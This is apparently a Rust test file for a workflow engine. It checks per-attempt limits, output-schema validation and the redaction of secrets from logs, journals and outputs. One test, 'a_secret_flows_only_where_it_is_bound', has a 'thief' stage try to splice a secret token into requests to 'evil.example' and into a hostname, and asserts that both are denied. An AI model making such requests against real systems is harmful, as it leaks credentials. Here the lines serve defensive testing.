//! The limits of an attempt that the conductor keeps, and secrets that never show.

use crate::world::World;
use serde_json::json;
use stageway_core::call::{
    Artifacts, Bytes, Command, Encoding, Function, HostError, Http, Invocation, Log, LogLevel, Request,
    Splice, Tasks, Value, Workspace,
};
use stageway_core::limits::AttemptLimits;
use stageway_core::run::{Ended, RunStatus};
use stageway_ports::HttpResponse;
use stageway_ports::memory::{MemoryHttp, ScriptedHost, ScriptedLife, TaskScript};
use std::sync::Arc;

async fn limited(
    limits: AttemptLimits,
    guest: impl for<'a> Fn(ScriptedHost<'a>) -> ScriptedLife<'a> + Send + Sync + 'static,
) -> (World, stageway_core::name::RunId, RunStatus) {
    let world = World::with_tasks(|_| TaskScript::exits(0));
    let mut stage = world.stage("greedy", guest);
    stage.1.limits = limits;
    let run = world.create("r", [stage]).await;
    let status = world.drive(&run).await;
    (world, run, status)
}

/// Every call is an entry.
fn asks_for_ever(mut host: ScriptedHost<'_>) -> ScriptedLife<'_> {
    Box::pin(async move {
        loop {
            host.value(Function::Invocation(Invocation::IsCancelled)).await?;
        }
    })
}

#[tokio::test(start_paused = true)]
async fn journal_entries_end_the_attempt() {
    let limits = AttemptLimits { journal_entries: 50, ..AttemptLimits::default() };
    let (world, run, status) = limited(limits, asks_for_ever).await;
    assert_eq!(status, RunStatus::Errored);
    assert_eq!(world.outcome(&run, "greedy").await, "errored stageway/limit-exceeded");
    assert_eq!(world.journal(&run, "greedy", 1).await.len(), 50, "header and end included");
}

#[tokio::test(start_paused = true)]
async fn inline_bytes_of_the_journal_end_the_attempt() {
    let limits = AttemptLimits { journal_bytes: 10_000, ..AttemptLimits::default() };
    let (world, run, status) = limited(limits, asks_for_ever).await;
    assert_eq!(status, RunStatus::Errored);
    assert_eq!(world.outcome(&run, "greedy").await, "errored stageway/limit-exceeded");
    assert!((50..200).contains(&world.journal(&run, "greedy", 1).await.len()));
}

/// They lie in the blobs.
#[tokio::test(start_paused = true)]
async fn large_values_of_the_journal_do_not_count_as_inline() {
    let limits = AttemptLimits { journal_bytes: 10_000, ..AttemptLimits::default() };
    let (_, _, status) = limited(limits, |mut host| {
        Box::pin(async move {
            for number in 0..20 {
                let bytes = Bytes(vec![number; 50_000]);
                let put =
                    Artifacts::Put { name: format!("a{number}"), media_type: "text/plain".into(), bytes };
                host.value(Function::Artifacts(put)).await?;
            }
            Ok(json!({}))
        })
    })
    .await;
    assert_eq!(status, RunStatus::Succeeded);
}

/// The outcome of a stage that answers with `outputs`, of which the plugin declares a text `reference` and nothing else.
async fn answered(outputs: serde_json::Value) -> (String, Option<serde_json::Value>) {
    let world = World::new();
    let mut stage = world.stage("talks", move |_| {
        let outputs = outputs.clone();
        Box::pin(async move { Ok(outputs) })
    });
    stage.1.outputs = json!({
        "type": "object", "properties": {"reference": {"type": "string"}},
        "required": ["reference"], "additionalProperties": {"type": "string"},
    });
    let run = world.create("r", [stage]).await;
    world.drive(&run).await;
    let failure = match world.ended(&run, "talks").await {
        Ended::Errored(failure) => Some(json!(failure)),
        _ => None,
    };
    (world.outcome(&run, "talks").await, failure)
}

#[tokio::test(start_paused = true)]
async fn outputs_that_the_plugin_does_not_declare_end_the_attempt_errored() {
    assert_eq!(answered(json!({"reference": "a", "b": "c"})).await.0, "succeeded");
    for (outputs, pointer, said) in [
        (json!({"reference": 7}), "/reference", "`reference` must be text, but this is a number"),
        (json!({"b": "c"}), "", "the object of outputs lacks `reference`"),
        (json!({"reference": "a", "b": []}), "/b", "`b` must be text, but this is a list"),
    ] {
        let (outcome, failure) = answered(outputs).await;
        assert_eq!(outcome, "errored stageway/outputs-invalid");
        let failure = failure.unwrap();
        let message = failure["message"].as_str().unwrap();
        assert!(message.starts_with(pointer) && message.contains(said), "{message}");
        let told = &failure["details"]["diagnostics"][0];
        assert_eq!((told["code"].as_str(), told["pointer"].as_str()), (Some("SW0210"), Some(pointer)));
    }
}

#[tokio::test(start_paused = true)]
async fn outputs_are_bounded_in_number_and_size() {
    let many =
        |count: usize| (0..count).map(|n| (format!("o{n}"), json!("x"))).collect::<serde_json::Map<_, _>>();
    let with = |mut outputs: serde_json::Map<_, _>, value: serde_json::Value| {
        outputs.insert("reference".into(), value);
        json!(outputs)
    };
    assert_eq!(answered(with(many(63), json!("x"))).await.0, "succeeded");
    assert_eq!(answered(with(many(0), json!("x".repeat(65_000)))).await.0, "succeeded");
    let long = json!({"reference": "x", "o".repeat(66_000): "x"});
    for outputs in [with(many(64), json!("x")), with(many(0), json!("x".repeat(66_000))), long, json!([1])] {
        assert_eq!(answered(outputs).await.0, "errored stageway/outputs-invalid");
    }
}

#[tokio::test(start_paused = true)]
async fn host_calls_end_the_attempt() {
    let limits = AttemptLimits { host_calls: 1_000, ..AttemptLimits::default() };
    let (world, run, status) = limited(limits, |mut host| {
        Box::pin(async move {
            loop {
                host.value(Function::Invocation(Invocation::RunId)).await?;
            }
        })
    })
    .await;
    assert_eq!((status, world.guests.calls()), (RunStatus::Errored, 1_001));
    assert_eq!(world.outcome(&run, "greedy").await, "errored stageway/limit-exceeded");
}

#[tokio::test(start_paused = true)]
async fn a_flood_of_log_is_cut_and_says_so_once() {
    let limits = AttemptLimits { log_bytes: 1_000, ..AttemptLimits::default() };
    let (world, run, status) = limited(limits, |mut host| {
        Box::pin(async move {
            for _ in 0..100 {
                let message = "x".repeat(99);
                host.value(Function::Log(Log::Write { level: LogLevel::Info, message })).await?;
            }
            Ok(json!({}))
        })
    })
    .await;
    assert_eq!(status, RunStatus::Succeeded);
    let lines = world.lines(&run).await;
    assert_eq!(lines.len(), 11);
    assert!(lines[10].line.text.contains("limit of 1000 bytes"));
}

#[tokio::test(start_paused = true)]
async fn tasks_workspace_and_randomness_are_bounded_by_answers() {
    let limits = AttemptLimits { tasks: 2, workspace_bytes: 10, ..AttemptLimits::default() };
    let (_, _, status) = limited(limits, |mut host| {
        Box::pin(async move {
            let start = || {
                let command = Box::new(Command { arguments: vec!["x".into()], ..Command::default() });
                Function::Tasks(Tasks::Start { name: "t".into(), command })
            };
            host.value(start()).await?;
            host.value(start()).await?;
            assert_eq!(host.call(start()).await?, Err(HostError::LimitExceeded("tasks".into())));
            let bytes = Bytes(vec![0; 11]);
            let write = Workspace::Write { path: "a".into(), bytes, executable: false };
            assert!(matches!(host.call(Function::Workspace(write)).await?, Err(HostError::LimitExceeded(_))));
            let random = host.call(Function::Invocation(Invocation::Random { count: 1 << 20 })).await?;
            assert!(matches!(random, Err(HostError::InvalidArgument(_))));
            Ok(json!({}))
        })
    })
    .await;
    assert_eq!(status, RunStatus::Succeeded);
}

/// The value, however it is written, in the output of a task and in what a server sends back.
#[tokio::test(start_paused = true)]
async fn a_secret_shows_nowhere() {
    const SPELLINGS: [&str; 3] = ["s3cr3t-value", "czNjcjN0LXZhbHVl", "7333637233742d76616c7565"];
    let mut world =
        World::with_tasks(|_| TaskScript::exits(0).writing(format!("a {}\n", SPELLINGS.join(" b "))));
    world.http = Arc::new(MemoryHttp::new(|request| {
        let sent = request.headers.iter().find(|(name, _)| name == "authorization").unwrap();
        Ok(HttpResponse {
            status: 200,
            headers: vec![("echo".into(), sent.1.clone())],
            body: sent.1.clone().into_bytes(),
        })
    }));
    let stage = world.stage("leaky", |mut host| {
        Box::pin(async move {
            let secret_variables = [("TOKEN".to_owned(), "TOKEN".to_owned())].into();
            let command = Command { arguments: vec!["x".into()], secret_variables, ..Command::default() };
            host.value(Function::Tasks(Tasks::Start { name: "t".into(), command: Box::new(command) }))
                .await?;
            host.value(Function::Tasks(Tasks::Wait { task: 1 })).await?;
            let splice =
                Splice { placeholder: "@TOKEN@".into(), secret: "TOKEN".into(), encoding: Encoding::Raw };
            let request = Request {
                method: "GET".into(),
                url: "https://a.example/".into(),
                headers: vec![("authorization".into(), "Bearer @TOKEN@".into())],
                body: Bytes::default(),
                secrets: vec![splice],
                limits: Default::default(),
                repeatable: false,
            };
            let Value::Response(response) = host.value(Function::Http(Http::Send(request))).await? else {
                panic!("a request has a response")
            };
            let message = format!("got {}", response.headers[0].1);
            host.value(Function::Log(Log::Write { level: LogLevel::Info, message })).await?;
            Ok(json!({"echo": response.headers[0].1}))
        })
    });
    let run = world.create("r", [stage]).await;
    assert_eq!(world.drive(&run).await, RunStatus::Succeeded);
    let everything = format!(
        "{:?} {} {}",
        world.lines(&run).await,
        serde_json::to_string(&world.journal(&run, "leaky", 1).await).unwrap(),
        world.outputs(&run, "leaky").await
    );
    for spelling in SPELLINGS {
        assert!(!everything.contains(spelling), "{spelling} in {everything}");
        assert!(world.seen.lines.lock().unwrap().iter().all(|line| !line.contains(spelling)));
    }
    assert!(everything.contains("Bearer ***"));
}

#[tokio::test(start_paused = true)]
async fn a_secret_flows_only_where_it_is_bound() {
    let world = World::new();
    let stage = world.stage("thief", |mut host| {
        Box::pin(async move {
            let request = |url: &str| Request {
                method: "GET".into(),
                url: url.into(),
                headers: vec![("x".into(), "@TOKEN@".into())],
                body: Bytes::default(),
                secrets: vec![Splice {
                    placeholder: "@TOKEN@".into(),
                    secret: "TOKEN".into(),
                    encoding: Encoding::Raw,
                }],
                limits: Default::default(),
                repeatable: false,
            };
            let denied = host.call(Function::Http(Http::Send(request("https://evil.example/")))).await?;
            assert!(matches!(denied, Err(HostError::Denied(_))), "{denied:?}");
            let host_part =
                host.call(Function::Http(Http::Send(request("https://@TOKEN@.a.example/")))).await?;
            assert!(host_part.is_err());
            let unknown = Function::Secrets(stageway_core::call::Secrets::Get { name: "OTHER".into() });
            assert!(matches!(host.call(unknown).await?, Err(HostError::Denied(_))));
            Ok(json!({}))
        })
    });
    let run = world.create("r", [stage]).await;
    assert_eq!(world.drive(&run).await, RunStatus::Succeeded);
    assert_eq!(world.http.received(), 0);
}
